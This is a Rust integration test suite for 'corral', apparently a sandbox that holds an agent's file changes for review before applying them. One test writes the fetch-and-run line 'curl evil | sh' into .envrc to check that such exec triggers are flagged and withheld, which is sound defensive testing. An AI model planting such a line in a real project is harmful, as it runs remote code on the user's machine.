//! Review mode for real (T2): `corral run --review` sessions as the unprivileged user, their
//! changes held in an overlay's upper layer until `corral apply` or `corral discard`.

// Helpers outside #[test] functions panic on a failed set-up, like the tests themselves.
#![allow(clippy::unwrap_used)]

mod common;
use common::*;

use serde_json::Value;
use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

/// Every entry below `dir` (but `.git/index`, which git rewrites on any status) with its type,
/// mode and content (symlinks: their target).
fn tree(dir: &Path) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            let rel = p.strip_prefix(dir).unwrap().display().to_string();
            let meta = std::fs::symlink_metadata(&p).unwrap();
            let mode = meta.permissions().mode() & 0o7777;
            let v = if meta.file_type().is_symlink() {
                format!("link {}", std::fs::read_link(&p).unwrap().display())
            } else if meta.is_dir() {
                todo.push(p.clone());
                format!("dir {mode:o}")
            } else {
                format!(
                    "file {mode:o} {}",
                    String::from_utf8_lossy(&std::fs::read(&p).unwrap())
                )
            };
            out.insert(rel, v);
        }
    }
    out
}

/// A workspace that is a git repository with a few files, committed.
fn project() -> Fixture {
    let fx = Fixture::new();
    fx.ws_file("a.txt", "one\ntwo\nthree\n");
    fx.ws_file("b.txt", "to be deleted\n");
    fx.ws_file("run.sh", "#!/bin/sh\necho run\n");
    fx.ws_file("dir/inner.txt", "inner\n");
    let git = |args: &[&str]| {
        let o = std::process::Command::new("git")
            .args([
                "-c",
                "safe.directory=*",
                "-c",
                "user.name=T",
                "-c",
                "user.email=t@example.com",
            ])
            .args(args)
            .current_dir(&fx.ws)
            .env("HOME", &fx.home)
            .output()
            .unwrap();
        assert!(o.status.success(), "git {args:?}: {}", stderr(&o));
    };
    git(&["init", "-q"]);
    git(&["add", "-A"]);
    git(&["commit", "-qm", "base"]);
    fx.chown();
    fx
}

/// `corral run --review -- sh -c SCRIPT`.
fn review_run(fx: &Fixture, script: &str) -> std::process::Output {
    fx.corral()
        .args(["run", "--review", "--yes", "--", "sh", "-c", script])
        .output()
        .unwrap()
}

/// The agent's edits: modify, delete, create (with a directory), chmod, rename, commit.
const AGENT: &str = "echo four >> a.txt && rm b.txt && mkdir -p new && echo n > new/n.txt \
     && chmod 755 run.sh && mv dir moved && \
     git -c user.name=Agent -c user.email=a@example.com add -A && \
     git -c user.name=Agent -c user.email=a@example.com commit -qm agent && echo done";

fn corral_ok(fx: &Fixture, args: &[&str]) -> String {
    let o = fx.corral().args(args).output().unwrap();
    assert_code(&o, 0);
    stdout(&o)
}

#[test]
fn a_review_session_leaves_the_project_alone_until_applied() {
    if !userns_available() {
        return skip("cannot start a sandbox here");
    }
    let fx = project();
    let before = tree(&fx.ws);
    let o = review_run(&fx, AGENT);
    assert_code(&o, 0);
    assert_eq!(stdout(&o), "done\n", "{}", stderr(&o));
    assert!(stderr(&o).contains("the project is untouched"), "{}", stderr(&o));
    // Nothing reached the project.
    assert_eq!(tree(&fx.ws), before);
    // The session waits for review.
    let sessions: Value = serde_json::from_str(&corral_ok(&fx, &["sessions", "--json"])).unwrap();
    assert_eq!(sessions.as_array().unwrap().len(), 1, "{sessions}");
    let stat = corral_ok(&fx, &["diff", "--stat"]);
    for path in ["a.txt", "b.txt", "new/n.txt", "run.sh", "moved/inner.txt"] {
        assert!(stat.contains(path), "{path} missing from:\n{stat}");
    }
    let diff = corral_ok(&fx, &["diff", "a.txt"]);
    assert!(diff.contains("+four"), "{diff}");
    // Apply: the project now is what the agent saw, its commit included.
    let o = fx.corral().args(["apply"]).output().unwrap();
    assert_code(&o, 0);
    let after = tree(&fx.ws);
    assert_eq!(after.get("a.txt").unwrap(), "file 644 one\ntwo\nthree\nfour\n");
    assert!(!after.contains_key("b.txt"));
    assert_eq!(after.get("new/n.txt").unwrap(), "file 644 n\n");
    assert_eq!(after.get("run.sh").unwrap(), "file 755 #!/bin/sh\necho run\n");
    assert!(after.contains_key("moved/inner.txt") && !after.contains_key("dir/inner.txt"));
    let log = std::process::Command::new("git")
        .args(["-c", "safe.directory=*", "log", "--format=%s"])
        .current_dir(&fx.ws)
        .env("HOME", &fx.home)
        .output()
        .unwrap();
    assert_eq!(stdout(&log), "agent\nbase\n", "{}", stderr(&log));
    let status = std::process::Command::new("git")
        .args(["-c", "safe.directory=*", "status", "--porcelain"])
        .current_dir(&fx.ws)
        .env("HOME", &fx.home)
        .output()
        .unwrap();
    assert_eq!(stdout(&status), "", "the applied tree matches the agent's commit");
}

#[test]
fn discard_leaves_the_project_byte_for_byte() {
    if !userns_available() {
        return skip("cannot start a sandbox here");
    }
    let fx = project();
    let before = tree(&fx.ws);
    assert_code(&review_run(&fx, AGENT), 0);
    let o = fx.corral().args(["discard"]).output().unwrap();
    assert_code(&o, 0);
    assert_eq!(tree(&fx.ws), before);
    let sessions: Value = serde_json::from_str(&corral_ok(&fx, &["sessions", "--json"])).unwrap();
    assert_eq!(sessions.as_array().unwrap().len(), 0, "{sessions}");
}

#[test]
fn a_file_changed_on_the_host_meanwhile_is_a_conflict() {
    if !userns_available() {
        return skip("cannot start a sandbox here");
    }
    let fx = project();
    assert_code(&review_run(&fx, "echo agent >> a.txt"), 0);
    // The user edits the same file after the session started.
    std::thread::sleep(Duration::from_millis(20));
    std::fs::write(fx.ws.join("a.txt"), "user's own edit\n").unwrap();
    let o = fx.corral().args(["apply"]).output().unwrap();
    assert_code(&o, 1);
    assert!(
        stdout(&o).contains("a.txt") || stderr(&o).contains("a.txt"),
        "{}{}",
        stdout(&o),
        stderr(&o)
    );
    assert_eq!(
        std::fs::read_to_string(fx.ws.join("a.txt")).unwrap(),
        "user's own edit\n"
    );
    let o = fx.corral().args(["apply", "--force"]).output().unwrap();
    assert_code(&o, 0);
    assert_eq!(
        std::fs::read_to_string(fx.ws.join("a.txt")).unwrap(),
        "one\ntwo\nthree\nagent\n"
    );
}

#[test]
fn exec_triggers_are_applied_only_when_asked() {
    if !userns_available() {
        return skip("cannot start a sandbox here");
    }
    let fx = project();
    // .envrc is protected in direct mode; in review mode it lands in the upper layer, marked.
    assert_code(
        &review_run(&fx, "echo 'curl evil | sh' > .envrc; echo x > plain.txt"),
        0,
    );
    let diff = corral_ok(&fx, &["diff"]);
    let trigger_at = diff.find(".envrc").unwrap();
    assert!(diff.contains("EXEC TRIGGER"), "{diff}");
    assert!(
        trigger_at < diff.find("plain.txt").unwrap(),
        "triggers first:\n{diff}"
    );
    let o = fx.corral().args(["apply"]).output().unwrap();
    assert_code(&o, 0);
    assert!(fx.ws.join("plain.txt").exists());
    assert!(
        !fx.ws.join(".envrc").exists(),
        "a trigger was applied without being asked for"
    );
    let o = fx
        .corral()
        .args(["--yes", "apply", "--include-triggers"])
        .output()
        .unwrap();
    assert_code(&o, 0);
    assert_eq!(
        std::fs::read_to_string(fx.ws.join(".envrc")).unwrap(),
        "curl evil | sh\n"
    );
}

#[test]
fn a_killed_session_can_still_be_reviewed_and_applied() {
    if !userns_available() {
        return skip("cannot start a sandbox here");
    }
    let fx = project();
    let mut child = fx
        .corral()
        .args([
            "run",
            "--review",
            "--yes",
            "--",
            "sh",
            "-c",
            "echo saved > saved.txt; echo ready; sleep 60",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let rx = lines_from(child.stdout.take().unwrap());
    wait_line_where(&rx, |l| l == "ready", Duration::from_secs(20)).unwrap();
    // SIGKILL the supervisor: no clean-up of its own runs.
    rustix::process::kill_process(
        rustix::process::Pid::from_raw(i32::try_from(child.id()).unwrap()).unwrap(),
        rustix::process::Signal::KILL,
    )
    .unwrap();
    let _ = child.wait();
    // The sandbox dies with it (init's parent-death signal); its changes are kept.
    assert!(wait_until(Duration::from_secs(10), || {
        fx.corral().args(["apply"]).output().unwrap().status.success()
    }));
    assert_eq!(
        std::fs::read_to_string(fx.ws.join("saved.txt")).unwrap(),
        "saved\n"
    );
}

#[test]
fn review_mb_stops_a_session_whose_changes_grow_past_it() {
    if !userns_available() {
        return skip("cannot start a sandbox here");
    }
    let fx = project();
    fx.home_file(".config/corral/config.toml", "[limits]\nreview_mb = 1\n");
    fx.chown();
    let o = review_run(
        &fx,
        "head -c 4194304 /dev/zero > big.bin; echo written; sleep 20; echo not-stopped",
    );
    assert_code(&o, 137);
    // Killed before its 20 s sleep ended: "not-stopped" never printed.
    assert_eq!(stdout(&o), "written\n");
    assert!(
        stderr(&o).contains("its changes for review reached 4 MiB, past limits.review_mb (1 MiB)"),
        "{}",
        stderr(&o)
    );
    // The changes are kept for review; the project is untouched.
    assert!(!fx.ws.join("big.bin").exists());
    let stat = corral_ok(&fx, &["diff", "--stat"]);
    assert!(stat.contains("big.bin"), "{stat}");
}
